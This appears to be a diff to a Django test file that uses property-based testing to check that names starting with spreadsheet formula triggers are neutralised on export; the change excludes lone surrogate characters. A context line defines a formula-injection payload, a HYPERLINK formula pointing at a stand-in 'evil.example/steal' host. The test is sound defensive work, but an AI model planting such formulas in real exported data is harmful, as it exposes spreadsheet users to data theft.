@@ -21,11 +21,12 @@ pytestmark = pytest.mark.django_db
 HYPERLINK = '=HYPERLINK("http://evil.example/steal","x")'
 
 # Names as an officer or a roster could type them: any printable text after a character a
-# spreadsheet reads as the start of a formula (NUL is refused by PostgreSQL itself).
+# spreadsheet reads as the start of a formula (NUL and lone surrogates cannot be stored in
+# PostgreSQL at all).
 dangerous_names = st.builds(
     lambda start, rest: start + rest,
     st.sampled_from(FORMULA_TRIGGERS),
-    st.text(st.characters(blacklist_characters="\x00"), max_size=40),
+    st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=40),
 )
 
 
